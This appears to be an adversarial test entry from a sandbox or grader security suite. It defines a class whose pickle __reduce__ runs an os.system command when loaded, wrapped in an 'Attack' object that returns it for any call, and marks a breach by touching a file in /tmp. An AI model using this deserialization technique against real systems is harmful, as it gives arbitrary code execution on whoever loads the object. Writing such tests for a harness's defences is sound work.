# A25 | visible | fail | answers with an object whose pickle runs code where it is loaded
class Bomb:
    def __reduce__(self):
        return __import__("os").system, ("touch /tmp/tandem_breach",)


class Attack:
    num_free = Bomb()

    def __init__(self, *arguments):
        pass

    def __getattr__(self, name):
        return lambda *arguments: Bomb()
